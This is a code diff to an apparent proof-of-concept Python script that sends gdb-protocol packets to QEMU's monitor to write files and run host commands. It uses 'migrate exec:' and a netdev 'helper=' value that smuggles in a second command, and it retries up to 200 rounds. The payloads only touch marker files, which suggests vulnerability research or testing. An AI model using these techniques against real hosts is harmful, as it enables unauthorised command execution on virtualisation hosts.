@@ -15,10 +15,15 @@ import sys
 ROUNDS = 200  # of leaving at once
 
 
-def packet(command: str) -> bytes:
-    """A command for QEMU's monitor, as gdb sends it."""
-    data = f"qRcmd,{command.encode().hex()}".encode()
+def packet(text: str) -> bytes:
+    """As gdb sends it."""
+    data = text.encode()
     return b"+$%s#%02x" % (data, sum(data) % 256)
+
+
+def monitor(command: str) -> bytes:
+    """A command for QEMU's monitor."""
+    return packet(f"qRcmd,{command.encode().hex()}")
 
 
 def connected(place: str) -> socket.socket:
@@ -56,11 +61,12 @@ def attack(place: str, packets: bytes) -> int:
 
 
 def main(mark: str, *places: str) -> None:
-    packets = packet(f"chardev-add file,id=attack,path={mark}.written")
-    packets += packet(f'migrate "exec:touch {mark}.started"')
+    packets = packet("qSupported:multiprocess+")  # as a debugger begins
+    packets += monitor(f"chardev-add file,id=attack,path={mark}.written")
+    packets += monitor(f'migrate "exec:touch {mark}.started"')
     # That is refused while the guest has the share mounted
     helper = f"helper=touch {mark}.started #"
-    packets += packet(f'netdev_add "bridge,id=attack,br=none,{helper}"')
+    packets += monitor(f'netdev_add "bridge,id=attack,br=none,{helper}"')
     result: dict[str, object] = {}
     for place in places:
         for turn in range(ROUNDS if place.isdigit() else 0):
